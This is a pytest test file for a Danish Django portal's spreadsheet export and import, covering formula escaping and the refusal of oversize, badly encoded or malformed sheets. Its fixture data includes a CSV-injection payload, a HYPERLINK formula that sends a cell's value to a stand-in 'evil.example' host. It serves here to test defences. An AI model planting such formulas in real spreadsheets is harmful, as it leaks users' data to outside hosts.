"""Sheets out of the portal carry no live formulas and come back exactly as exported; sheets into it are refused
whole, by size, encoding, structure, headers and number of rows, before a single row is imported."""

import csv
import datetime
import io
from unittest import mock

import openpyxl
import pytest
from django.utils import translation
from openpyxl.styles import Font

from byaftale.sheets import escape_formula, export_sheet, import_sheet, unescape_formula
from projects.models import Project
from projects.resources import ProjectResource
from tests.factories import make_area, make_grouping, make_project

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

TEXTS = {
    "title": '=HYPERLINK("http://evil.example/?q="&A1;"Klik")',
    "description": "=1+1 er to, står der",
    "label": "'=ikke en formel",  # a text that genuinely begins with the escape
    "responsibility_text": "-5 grader i fyrrummet",
    "relations_text": "@BO nævnes",
    "financing_text": "+45 66 13 13 72",
    "timeline_text": "\tindrykket",
    "start_wording": "'90erne",  # an apostrophe before no trigger is left alone
    "end_wording": "''+ to apostroffer",
}


def every_field(project: Project) -> dict:
    values = {}
    for field in Project._meta.concrete_fields:
        if field.name != "id":
            value = getattr(project, field.name)
            values[field.name] = value.natural_key() if hasattr(value, "natural_key") else value
    return values


@pytest.fixture
def energy():
    area = make_area(slug="energi-og-klima", name="Energi og klima", name_in_table="Energi og klima")
    make_grouping(area=area, kind="line", name="Lokal efterspørgsel")
    return area


@pytest.fixture
def formula_project(energy):
    return make_project(
        area=energy, number=3, start_date=datetime.date(2011, 4, 1), end_date=datetime.date(2011, 9, 1), **TEXTS
    )


@pytest.mark.parametrize(
    "text", [*TEXTS.values(), "=", "'", "''", "'''=x", "hej", "", "1.750", "2011-04-01", "\r\nlinje"]
)
def test_escaping_a_text_never_leaves_a_formula_and_unescaping_gives_it_back(text):
    escaped = escape_formula(text)

    assert not escaped.startswith(TRIGGERS)
    assert unescape_formula(escaped) == text


def test_an_xlsx_export_holds_formula_text_as_text_cells_not_formulas(formula_project):
    sheet = openpyxl.load_workbook(io.BytesIO(export_sheet(resource=ProjectResource(), format="xlsx"))).active
    headers = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=headers.index("Titel") + 1)

    assert title.data_type == "s", "a text cell, which Excel does not run"
    assert title.value == "'" + TEXTS["title"]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.cell(row=2, column=headers.index("Start") + 1).is_date, "dates stay dates"


def test_a_csv_export_begins_no_cell_with_a_formula_character(formula_project):
    text = export_sheet(resource=ProjectResource(), format="csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))

    assert [cell for row in rows for cell in row if cell.startswith(TRIGGERS)] == []
    assert "'" + TEXTS["title"] in rows[1]


@pytest.mark.parametrize("format", ["xlsx", "csv"])
def test_an_exported_sheet_imports_again_exactly_as_it_was_exported(formula_project, format):
    before = every_field(Project.objects.get())
    sheet = export_sheet(resource=ProjectResource(), format=format)
    Project.objects.all().delete()

    report = import_sheet(resource=ProjectResource(), file=sheet, format=format)

    assert report.errors == []
    assert every_field(Project.objects.get()) == before


def write_big_csv(path, header: str, size: int) -> None:
    line = "energi-og-klima,1,Titel der gentages\n"
    with open(path, "w", encoding="utf-8") as file:
        file.write(header)
        file.write(line * ((size - len(header)) // len(line)))
        file.write("x" * (size - file.tell()))


def test_a_50_mb_csv_is_refused_by_its_size_before_it_is_read(energy, tmp_path):
    path = tmp_path / "projekter.csv"
    write_big_csv(path, "Indsatsområde,Nummer,Titel\n", 50 * 1024 * 1024)

    with mock.patch.object(ProjectResource, "import_row") as import_row, translation.override("da"):
        report = import_sheet(resource=ProjectResource(), file=path, format="csv")

    assert report.errors == ["Filen er 52,4 MB; den største fil, der kan indlæses, er 5 MB."]
    import_row.assert_not_called()


def test_a_csv_with_a_column_the_import_does_not_know_is_refused_before_any_row_is_read(energy, tmp_path, settings):
    settings.IMPORT_MAX_BYTES = 100_000_000
    path = tmp_path / "projekter.csv"
    write_big_csv(path, "Indsatsområde,Nummer,Overskrift\n", 50 * 1024 * 1024)

    with mock.patch.object(ProjectResource, "import_row") as import_row:
        report = import_sheet(resource=ProjectResource(), file=path, format="csv")

    [error] = report.errors
    assert "«Overskrift»" in error
    import_row.assert_not_called()


def xlsx(rows: list[list], *, far_cell: tuple[int, object] | None = None, styled_row: int | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if far_cell:
        sheet.cell(row=far_cell[0], column=1, value=far_cell[1])
    if styled_row:
        sheet.cell(row=styled_row, column=1).font = Font(bold=True)  # formatted, yet empty
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_an_xlsx_with_a_cell_at_row_20000_is_refused_for_its_rows_before_any_is_imported(energy):
    sheet = xlsx([["Indsatsområde", "Nummer", "Titel"]], far_cell=(20000, "energi-og-klima"))
    assert len(sheet) < 10_000

    with mock.patch.object(ProjectResource, "import_row") as import_row, translation.override("da"):
        report = import_sheet(resource=ProjectResource(), file=sheet, format="xlsx")

    assert report.errors == ["Arket har flere end 5.000 rækker; del det op i ark med højst 5.000 rækker."]
    import_row.assert_not_called()


def test_empty_formatted_rows_after_the_last_row_are_never_read(energy):
    sheet = xlsx(
        [["Indsatsområde", "Nummer", "Titel"], ["energi-og-klima", 1, "Et"], ["energi-og-klima", 2, "To"]],
        styled_row=20000,
    )

    counting = mock.patch.object(ProjectResource, "import_row", autospec=True, side_effect=ProjectResource.import_row)
    with counting as rows:
        report = import_sheet(resource=ProjectResource(), file=sheet, format="xlsx")

    assert (report.created, report.skipped, report.errors) == (2, 0, [])
    assert rows.call_count == 2


def test_a_sheet_with_more_rows_than_the_limit_is_refused_naming_the_limit(energy, settings):
    settings.IMPORT_MAX_ROWS = 2
    sheet = "Indsatsområde,Nummer,Titel\nenergi-og-klima,1,Et\nenergi-og-klima,2,To\n"

    assert import_sheet(resource=ProjectResource(), file=sheet.encode(), format="csv").errors == []
    with translation.override("da"):
        report = import_sheet(
            resource=ProjectResource(), file=(sheet + "energi-og-klima,3,Tre\n").encode(), format="csv"
        )

    assert report.errors == ["Arket har flere end 2 rækker; del det op i ark med højst 2 rækker."]
    assert Project.objects.count() == 2


def test_a_csv_saved_by_danish_excel_in_cp1252_is_read_with_its_danish_letters(energy):
    sheet = "Indsatsområde;Linie eller tema;Nummer;Titel\nEnergi og klima;Lokal efterspørgsel;3;Kortlægning på Ærø\n"

    report = import_sheet(resource=ProjectResource(), file=sheet.encode("cp1252"), format="csv")

    assert report.errors == []
    project = Project.objects.get()
    assert (project.title, project.grouping.name) == ("Kortlægning på Ærø", "Lokal efterspørgsel")


def test_a_csv_in_no_known_encoding_is_refused_showing_what_could_be_read(energy):
    sheet = "Indsatsområde,Nummer,Titel\n".encode("cp1252").replace(b"\xe5", b"\x81") + b"energi-og-klima,1,Et\n"

    with translation.override("da"):
        [error] = import_sheet(resource=ProjectResource(), file=sheet, format="csv").errors

    assert error.startswith("Filen kunne ikke læses som tekst i UTF-8 eller Windows-1252")
    assert "«Indsatsomr\ufffdde,Nummer,Titel»" in error
    assert Project.objects.count() == 0


@pytest.mark.parametrize(
    ("file", "format", "message"),
    [
        (b"Indsatsomr\xc3\xa5de,Nummer\n", "xlsx", "Filen er ikke en Excel-projektmappe (xlsx)."),
        (xlsx([["Indsatsområde", "Nummer"]]), "csv", "Filen kunne ikke læses som tekst"),
        (b"\n\nenergi-og-klima,1\n", "csv", "Arkets første række skal indeholde kolonneoverskrifterne"),
        (b"Titel,Nummer,Titel\n", "csv", "Arket har mere end én kolonne med overskriften «Titel»."),
        (
            b"Indsatsomr\xc3\xa5de,Nummer,Titel\nenergi-og-klima,1,Et, to og tre\n",
            "csv",
            "Række 2 har flere celler, end arket har kolonneoverskrifter (3).",
        ),
    ],
    ids=["not a workbook", "a workbook as csv", "no headers", "a header twice", "a stray separator"],
)
def test_a_file_that_is_not_a_sheet_of_this_kind_is_refused_in_plain_words(energy, file, format, message):
    with translation.override("da"):
        [error] = import_sheet(resource=ProjectResource(), file=file, format=format).errors

    assert error.startswith(message)
    assert Project.objects.count() == 0
